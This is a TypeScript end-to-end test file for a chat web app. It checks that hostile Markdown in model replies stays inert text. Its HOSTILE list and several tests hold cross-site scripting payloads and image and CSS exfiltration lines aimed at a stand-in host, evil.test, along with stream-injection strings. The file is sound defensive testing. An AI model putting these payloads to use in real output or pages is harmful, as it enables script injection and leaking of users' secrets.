import { textOf } from '../chat';
import { ECHO, FAKE, expect, test } from '../fixtures';

/** What a model may say to do harm. Each is tried as one piece and one character at a time. */
const HOSTILE = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](vbscript:x)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '<javascript:alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '![a](https://evil.test/?q=SECRET)',
  '![a][r]\n\n[r]: https://evil.test/?q=SECRET',
  '![](//evil.test/a)',
  '![](data:image/svg+xml,<svg onload=alert(1)>)',
  '[a](https://evil.test "t\\" onmouseover=alert(1)")',
  '<style>@import url(//evil.test)</style>',
  '<link rel=stylesheet href=//evil.test>',
  '<base href=//evil.test>',
  '<form action=//evil.test><button name=x id=hydrate>',
  '# hydrate\n\n## location\n\n[^body]: a footnote\n\nhere[^body]',
  '<a href="javascript:alert(1)" style="position:fixed;inset:0">x</a>',
  'safe\r\n\r\nevent: control\r\ndata: {"injected":true}\r\n\r\nmore',
  'start\n\nevent: data\ndata: fake\n\nend',
  'data: [DONE]',
  '{"t":"end"}',
  'a\u2028b\ufeffc \u202eright to left\u202c',
];

/** Watches the page from its first element on: nothing dangerous may be in it at any moment. */
function guard() {
  const allowed = /^(https?:|mailto:)/i;
  const report = (element: Element) => {
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on')) console.error(`handler attribute ${name}=${value}`);
      if (name === 'style' && element.closest('[data-testid=text]')) console.error(`style attribute ${value}`);
    }
    if (!element.closest('[data-testid=text]')) return;
    // Around an image of ours, to open it.
    const opens = element.className === 'open-image' && /^\/api\/files\/[\w-]+$/.test(element.getAttribute('href') ?? '');
    if (element instanceof HTMLAnchorElement && element.hasAttribute('href') && !opens) {
      if (!allowed.test(element.getAttribute('href') ?? '') || !/^(https?|mailto):$/.test(element.protocol))
        console.error(`link to ${element.getAttribute('href')}`);
      if (element.rel !== 'noopener noreferrer nofollow') console.error(`link with rel ${element.rel}`);
    }
    if (element instanceof HTMLImageElement && !element.src.startsWith(location.origin))
      console.error(`image from ${element.src}`);
    if (/^(script|iframe|style|link|base|object|embed|form|svg)$/i.test(element.tagName))
      console.error(`element ${element.outerHTML}`);
    if (element.id) console.error(`id ${element.id}`);
  };
  new MutationObserver((records) => {
    for (const record of records) {
      if (record.type === 'attributes') report(record.target as Element);
      for (const node of record.addedNodes) {
        if (!(node instanceof Element)) continue;
        report(node);
        node.querySelectorAll('*').forEach(report);
      }
    }
  }).observe(document, { subtree: true, childList: true, attributes: true });
}

test.beforeEach(({ context }) => context.addInitScript(guard));

test('hostile Markdown stays text, in one piece', async ({ chat, page, snapshot }) => {
  test.slow();
  await chat.open();
  for (const [index, hostile] of HOSTILE.entries()) {
    const answer = await chat.ask(hostile, ECHO);
    await answer.isIn('end');
    await expect(answer.root, `${index}: ${hostile}`).toHaveAttribute('data-verdict', 'whole');
    // What a textarea holds has LF alone.
    expect(textOf(await snapshot(await answer.id()))).toBe(hostile.replaceAll('\r\n', '\n'));
  }
  // From the server's HTML too.
  await page.reload();
  await chat.isLive();
  await expect(chat.answers).toHaveCount(HOSTILE.length);
});

test('hostile Markdown stays text, one character at a time', async ({ chat, provider, prompt, page, snapshot }) => {
  test.slow();
  const all = HOSTILE.join('\n\n---\n\n');
  provider.on(prompt, async (reply) => {
    for (const character of all) {
      reply.say(character);
      await reply.pause(1);
    }
    reply.finish();
  });
  await chat.open();
  const answer = await chat.ask(prompt, FAKE);
  await answer.isIn('end', { timeout: 60_000 });
  expect(textOf(await snapshot(await answer.id()))).toBe(all);
  await page.reload();
  await chat.isLive();
  await expect(chat.answer().root).toHaveAttribute('data-verdict', 'whole');
});

test('a remote image is named, not fetched', async ({ chat }) => {
  await chat.open();
  const answer = await chat.ask('![a cat](https://evil.test/cat.png?q=SECRET)', ECHO);
  await answer.isIn('end');
  await expect(answer.texts).toContainText('evil.test');
  await expect(answer.texts.locator('img')).toHaveCount(0);
});

test('what a provider says in its errors stays text', async ({ chat, provider, prompt }) => {
  const message = 'not found: <img src=x onerror=alert(1)> [x](javascript:alert(1))';
  provider.on(prompt, async (reply) => reply.fail(message));
  await chat.open();
  const answer = await chat.ask(prompt, FAKE);
  await answer.isIn('error');
  await expect(answer.error).toContainText(message);
  await expect(answer.error.locator('img')).toHaveCount(0);
});

test('an HTML page of a provider does not reach the reader', async ({ chat, provider, prompt }) => {
  provider.on(prompt, async (reply) => {
    reply.refuse(502, '<html><script>alert(1)</script></html>', { 'content-type': 'text/html' });
  });
  await chat.open();
  const answer = await chat.ask(prompt, FAKE);
  await answer.isIn('error');
  await expect(answer.error).toContainText('502');
  await expect(answer.error).not.toContainText('script');
});

test('deep nesting and unbalanced brackets do not stop the page', async ({ chat, provider, prompt, snapshot }) => {
  const text = `${'['.repeat(20_000)}\n\n${'*'.repeat(20_000)}\n\n${'> '.repeat(10_000)}deep\n`;
  provider.on(prompt, async (reply) => (reply.say(text), reply.finish()));
  await chat.open();
  const answer = await chat.ask(prompt, FAKE);
  await answer.isIn('end', { timeout: 30_000 });
  await expect(answer.root).toHaveAttribute('data-verdict', 'whole');
  expect(textOf(await snapshot(await answer.id()))).toBe(text);
  await expect(answer.texts).toContainText('deep');
});

test('another page can neither ask nor read', async ({ server }) => {
  const policy = (await fetch(server.url)).headers.get('content-security-policy') ?? '';
  for (const rule of ["require-trusted-types-for 'script'", "trusted-types 'none'", "script-src 'self' 'nonce-"]) {
    expect(policy).toContain(rule);
  }
  expect(policy).not.toContain('unsafe-inline');
  expect(policy).not.toMatch(/'unsafe-eval'/);
  const response = await fetch(`${server.url}/api/chat`, {
    method: 'POST',
    headers: { 'content-type': 'text/plain' },
    body: '{"message":{"parts":[{"t":"text","r":"hi"}]}}',
  });
  expect(response.status, 'only JSON, which no form of another site can send').toBe(415);
});
